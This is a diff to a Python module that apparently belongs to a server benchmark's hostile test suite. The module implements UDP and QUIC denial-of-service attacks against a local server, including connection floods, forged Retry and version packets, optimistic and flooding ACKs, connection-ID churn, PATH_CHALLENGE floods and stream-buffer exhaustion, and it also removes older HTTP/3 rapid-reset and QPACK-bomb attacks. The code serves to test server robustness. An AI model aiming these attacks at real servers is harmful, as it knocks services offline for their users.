@@ -1,112 +1,16 @@
-"""The attacks of bench/hostile over UDP: datagrams of their own making, and connections of aioquic's that do what they please. As
-those over TCP, each does a fixed amount of work and then holds what it opened."""
+"""The attacks of bench/hostile on UDP and QUIC: datagrams of their own making, and connections of aioquic's whose packets are made
+here. As those over TCP, each does a fixed amount of work and then holds what it opened."""
 
+import itertools
 import os
 import random
 import socket
-import ssl
 import struct
-import sys
 import time
 
-from . import quic_sides
+from .quic_peer import VERSION, Counted, Datagrams, acknowledgement, again, client_hello, connected, initial, request, variable
 
 UDP_SEGMENT = 103
-VERSION = b"\x00\x00\x00\x01"
-CONTROL, ENCODER = b"\x00\x04\x00", b"\x02"
-# :method GET and :scheme https; :authority a follows, then :path.
-COMMON = b"\xd1\xd7\x50\x01a"
-
-
-def aioquic():
-    """Its modules, from where ./peers keeps them."""
-    there = os.path.join(quic_sides.PEERS, "quic")
-    if there not in sys.path:
-        sys.path.append(there)
-    from aioquic.quic import configuration, connection
-    return configuration, connection
-
-
-class QuicPeer:
-    """A connection of an attacker's, which sends bytes on streams as they are."""
-
-    def __init__(self, port, **settings):
-        configuration, connection = aioquic()
-        made = configuration.QuicConfiguration(
-            alpn_protocols=["h3"], is_client=True, verify_mode=ssl.CERT_NONE, server_name="localhost", **settings)
-        made.supported_versions = made.supported_versions[:1]
-        self.quic = connection.QuicConnection(configuration=made)
-        self.address = ("127.0.0.1", port)
-        self.socket = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
-        self.socket.bind(("127.0.0.1", 0))
-        self.socket.setblocking(False)
-        self.quic.connect(self.address, time.monotonic())
-
-    def flush(self):
-        for data, _ in self.quic.datagrams_to_send(time.monotonic()):
-            try:
-                self.socket.sendto(data, self.address)
-            except OSError:
-                pass
-
-    def turn(self, wait_s=0.0):
-        """Sends what there is, takes what has come within `wait_s`, and says whether the connection goes on."""
-        until = time.monotonic() + wait_s
-        while True:
-            self.flush()
-            try:
-                while True:
-                    self.quic.receive_datagram(self.socket.recv(65536), self.address, time.monotonic())
-            except OSError:
-                pass
-            timer = self.quic.get_timer()
-            if timer is not None and timer <= time.monotonic():
-                self.quic.handle_timer(time.monotonic())
-            if time.monotonic() >= until:
-                self.flush()
-                return self.quic._close_event is None
-            time.sleep(0.001)
-
-    def open(self, bytes_, unidirectional=False, end=False):
-        stream = self.quic.get_next_available_stream_id(is_unidirectional=unidirectional)
-        self.quic.send_stream_data(stream, bytes_, end_stream=end)
-        return stream
-
-
-def connected(port, count=1, **settings):
-    peers = [QuicPeer(port, **settings) for _ in range(count)]
-    for _ in range(100):
-        if all([peer.turn(0.005) and peer.quic._handshake_confirmed for peer in peers]):
-            break
-    else:
-        raise TimeoutError("the server does not take the attacker's connections")
-    for peer in peers:
-        peer.open(CONTROL, unidirectional=True)
-        peer.turn()
-    return peers
-
-
-def request(path):
-    section = b"\x00\x00" + COMMON + b"\x51" + integer(len(path)) + path
-    return headers(section)
-
-
-def headers(section):
-    return b"\x01" + struct.pack(">H", 0x4000 | len(section)) + section
-
-
-def ask_and_close(ports):
-    """What an ordinary client does."""
-    [peer] = connected(ports["quic"])
-    peer.open(request(b"/13B"), end=True)
-    peer.turn(0.01)
-    peer.quic.close()
-    peer.turn(0.01)
-
-
-def integer(value):
-    """Seven bits and more (RFC 7541 §5.1)."""
-    return bytes([value]) if value < 127 else bytes([127, value - 127])
 
 
 def udp_rubbish(ports, _path):
@@ -136,66 +40,60 @@ def udp_rubbish(ports, _path):
 
 
 def quic_begun(ports, _path):
-    """2,000 connections that are never gone on with, from as many ports: the server may send each of them 3 x its datagram"""
-    peers = []
+    """2,000 connections that are never gone on with, from as many ports; each port may be sent 3 x its datagram"""
+    hello, source = client_hello(ports["quic"])
+    sockets = []
     for _ in range(2000):
-        peers.append(QuicPeer(ports["quic"]))
-        peers[-1].flush()
-    return peers
+        sockets.append(Datagrams(ports["quic"]))
+        sockets[-1].send(initial(hello, source, os.urandom(8)))
+        time.sleep(0.0005)
+    return Counted(sockets)
 
 
-def h3_rapid_reset(ports, path):
-    """4 connections, requests that are reset at once, 1,000 each or until they are ended"""
+def quic_moves(ports, _path):
+    """One connection whose packets come from 1,000 ports, and that answers no PATH_CHALLENGE; each port may be sent 3 x its packet"""
+    [peer] = connected(ports["quic"])
+    sockets = []
+    for _ in range(1000):
+        sockets.append(Datagrams(ports["quic"]))
+        # PING and padding.
+        sockets[-1].send(peer.packet(b"\x01" + bytes(40)))
+        time.sleep(0.0005)
+    return Counted(sockets)
+
+
+def reset_bait(ports, _path):
+    """40,000 packets of 21 to 1,200 bytes for connections that do not exist; what comes back is sent back, and may not be more"""
+    bait = Datagrams(ports["quic"])
+    for number in range(1000):
+        length = (21, 22, 40, 41, 42, 43, 44, 60, 100, 300, 1200)[number % 11]
+        bait.socket.setsockopt(socket.IPPROTO_UDP, UDP_SEGMENT, length)
+        bait.send(b"".join(bytes([0x40 | at]) + os.urandom(length - 1) for at in range(40)))
+        time.sleep(0.0005)
+        bait.socket.setsockopt(socket.IPPROTO_UDP, UDP_SEGMENT, 0)
+        for reset in bait.receive():
+            bait.send(reset)
+    return Counted([bait])
+
+
+def spoofed(ports, _path):
+    """4 connections, and 5,000 forged Retry, Version Negotiation and unknown-version packets for each; they must go on"""
     peers = connected(ports["quic"], 4)
-    for peer in peers:
-        for number in range(1000):
-            stream = peer.open(request(path))
-            peer.flush()
-            peer.quic.reset_stream(stream, 0x10c)
-            peer.quic.stop_stream(stream, 0x10c)
-            if number % 20 == 19 and not peer.turn(0.001):
-                break
-    return peers
-
-
-def h3_window_zero(ports, path):
-    """4 connections with 100 requests each and 1,000 bytes of credit for all their answers"""
-    peers = connected(ports["quic"], 4, max_stream_data=1000, max_data=1000)
-    for peer in peers:
-        # What is read gives no further credit.
-        peer.quic._local_max_data.used = -(1 << 40)
-        for _ in range(100):
-            peer.open(request(path), end=True)
-        peer.turn(0.1)
-    return peers
-
-
-def qpack_bomb(ports, _path):
-    """4 connections whose requests name one entry of 4 kB 4,000 times, 100 times over"""
-    peers = connected(ports["quic"], 4)
-    value = b"x" * 3900
-    # Capacity 4096; the name `a` and the value as literals.
-    entry = b"\x3f\xe1\x1f" + b"\x41a" + b"\x7f" + bytes([0x80 | (len(value) - 127) & 0x7f, (len(value) - 127) >> 7]) + value
-    for peer in peers:
-        peer.open(ENCODER + entry, unidirectional=True)
-        peer.turn(0.02)
-        bomb = headers(b"\x02\x00" + COMMON + b"\xc1" + b"\x80" * 4000)
-        for number in range(100):
-            peer.open(bomb, end=True)
-            if number % 10 == 9 and not peer.turn(0.005):
-                break
-    return peers
-
-
-def qpack_blocked(ports, _path):
-    """4 connections with 16 requests each that wait for entries that never come, and 16 kB of body behind each"""
-    peers = connected(ports["quic"], 4)
-    body = b"\x00" + struct.pack(">I", 0x80000000 | 16_000) + b"b" * 16_000
-    for peer in peers:
-        for _ in range(16):
-            peer.open(headers(b"\x09\x00" + COMMON + b"\xc1") + body)
-        peer.turn(0.1)
-    return peers
+    flood = Datagrams(ports["quic"])
+    for number in range(5000):
+        for peer in peers:
+            ids = b"".join(bytes([len(one)]) + one for one in (peer.server_id(), peer.quic.host_cid))
+            # Once from the client's own address, once from another one.
+            whence = (peer.socket, flood)[number % 2]
+            whence.send(b"\xf0" + VERSION + ids + b"a token" + os.urandom(16))
+            whence.send(b"\x80" + bytes(4) + ids + b"\x1a\x2a\x3a\x4a")
+            whence.send((b"\xc3\x1a\x2a\x3a\x4a" + ids).ljust(1200, b"x"))
+            if number % 50 == 49:
+                peer.turn()
+                flood.receive()
+    if not all([peer.is_answered() for peer in peers]):
+        raise ConnectionError("a connection has ended for a packet that anybody can make")
+    return Counted([flood, *[peer.socket for peer in peers]])
 
 
 def quic_pings(ports, _path):
@@ -210,16 +108,103 @@ def quic_pings(ports, _path):
     return peers
 
 
-def control_closed(ports, _path):
-    """200 connections, one after another, that close their control stream"""
-    for _ in range(200):
-        peer = connected(ports["quic"])[0]
-        peer.quic.send_stream_data(2, b"", end_stream=True)
-        peer.turn(0.005)
-    return []
+def quic_acks(ports, path):
+    """4 connections, 5,000 packets each that only acknowledge, every second one 300 ranges"""
+    peers = connected(ports["quic"], 4, max_stream_data=1_500_000, max_data=1_500_000)
+    frames = []
+    for peer in peers:
+        # The server's packets stay known, and what is read gives no further credit.
+        _, _, space = peer.quic._spaces.values()
+        space.ack_queue.subtract = lambda *_: None
+        peer.quic._local_max_data.used = -(1 << 40)
+        peer.open(request(path), end=True)
+        peer.turn(0.2)
+        numbers = [number for each in space.ack_queue for number in each][::-2][:300]
+        frames.append((acknowledgement(numbers[:1]), acknowledgement(numbers)))
+    for number in range(5000):
+        for peer, each in zip(peers, frames):
+            peer.socket.send(peer.packet(each[number % 2]))
+    return peers
 
 
+def optimistic_acks(ports, path):
+    """200 connections, one after another, that ask for an answer and acknowledge 1,000 packets more than have come"""
+    def act(peer, _number):
+        peer.open(request(path), end=True)
+        peer.turn(0.002)
+        _, _, space = peer.quic._spaces.values()
+        # One range from the largest down to the first.
+        largest = space.largest_received_packet + 1000
+        peer.socket.send(peer.packet(b"\x02" + variable(largest) + b"\0\0" + variable(largest)))
+    return again(ports, act)
+
+
+def connection_ids(ports, _path):
+    """4 connections, 30,000 new connection IDs each, every one of which retires all before it, and no acknowledgement"""
+    peers = connected(ports["quic"], 4)
+    for first in range(100, 30_100, 30):
+        for peer in peers:
+            peer.socket.send(peer.packet(b"".join(
+                b"\x18" + 2 * variable(number) + b"\x08" + os.urandom(8 + 16) for number in range(first, first + 30))))
+    return peers
+
+
+def retired_ids(ports, _path):
+    """4 connections, each of which takes the next of the server's connection IDs and retires the last one, 1,000 times"""
+    peers = connected(ports["quic"], 4)
+    for number in range(1000):
+        for peer in peers:
+            peer.quic.change_connection_id()
+            peer.turn()
+    return peers
+
+
+def path_challenges(ports, _path):
+    """4 connections, 1,000 packets each with 120 PATH_CHALLENGE, and no acknowledgement"""
+    peers = connected(ports["quic"], 4)
+    for _ in range(1000):
+        for peer in peers:
+            peer.socket.send(peer.packet(b"".join(b"\x1a" + os.urandom(8) for _ in range(120))))
+    return peers
+
+
+def stream_gaps(ports, _path):
+    """4 connections with 100 streams each, on each of which 25 single bytes come with gaps between them, in packets of 1,200 bytes"""
+    peers = connected(ports["quic"], 4)
+    for at in range(25):
+        for stream in range(0, 400, 4):
+            for peer in peers:
+                one = b"\x0e" + variable(stream) + variable(2 * at + 1) + b"\x01x"
+                peer.socket.send(peer.packet(one.ljust(1150, b"\0")))
+            time.sleep(0.0001)
+        for peer in peers:
+            peer.turn()
+    return peers
+
+
+def stream_holes(ports, _path):
+    """4 connections that send all that they may on up to 100 streams each, but for each stream's first byte"""
+    peers = connected(ports["quic"], 4)
+    places = []
+    for peer in peers:
+        credit, of_stream = peer.quic._remote_max_data, peer.quic._remote_max_stream_data_bidi_remote
+        # A hundred bytes of the connection's credit are the control stream's.
+        lengths = [min(of_stream, credit - 100 - before) for before in range(0, credit - 100, of_stream)][:100]
+        places.append([(4 * number, at) for number, length in enumerate(lengths) for at in range(1, length - 1100, 1100)])
+    for number, each in enumerate(itertools.zip_longest(*places)):
+        for peer, place in zip(peers, each):
+            if place:
+                stream, at = place
+                peer.socket.send(peer.packet(b"\x0c" + variable(stream) + variable(at) + bytes(1100)))
+                peer.socket.receive()
+        if number % 4 == 3:
+            time.sleep(0.0002)
+    return peers
+
+
+# What the server may send for each byte that it gets. An address that is not validated may be sent three times as much (RFC 9000 §8.1).
+ANSWERED_AT_MOST = {quic_begun: 3, quic_moves: 3, reset_bait: 1, spoofed: 1}
 FILE = "/50MB"
-TABLE = ((udp_rubbish, (FILE,)), (quic_begun, (FILE,)), (h3_rapid_reset, (FILE, "/page?images=100000&bytes=5000&seed=1")),
-         (h3_window_zero, (FILE, "/page?images=100000&bytes=5000&seed=1")), (qpack_bomb, (FILE,)), (qpack_blocked, (FILE,)),
-         (quic_pings, (FILE,)), (control_closed, (FILE,)))
+TABLE = tuple((attack, (FILE,)) for attack in (
+    udp_rubbish, quic_begun, quic_moves, reset_bait, spoofed, quic_pings, quic_acks, optimistic_acks, connection_ids, retired_ids,
+    path_challenges, stream_gaps, stream_holes))
